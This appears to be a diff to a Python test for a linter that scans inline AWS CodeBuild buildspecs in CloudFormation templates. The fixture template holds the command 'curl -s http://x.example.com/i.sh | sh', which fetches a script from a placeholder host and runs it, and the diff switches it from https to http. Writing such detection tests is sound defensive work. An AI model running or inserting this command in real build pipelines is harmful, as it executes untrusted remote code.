@@ -38,7 +38,7 @@ def test_inline_buildspec_of_a_template_file_is_linted(tmp_path) -> None:
     (tmp_path / "template.yaml").write_text(
         "Resources:\n  P:\n    Type: AWS::CodeBuild::Project\n    Properties:\n      Source:\n        Type: NO_SOURCE\n"
         "        BuildSpec: |\n          version: 0.2\n          phases:\n            build:\n              commands:\n"
-        "                - curl -s https://x.example.com/i.sh | sh\n",
+        "                - curl -s http://x.example.com/i.sh | sh\n",
         encoding="utf-8",
     )
     result = run_paths([tmp_path], root=tmp_path)
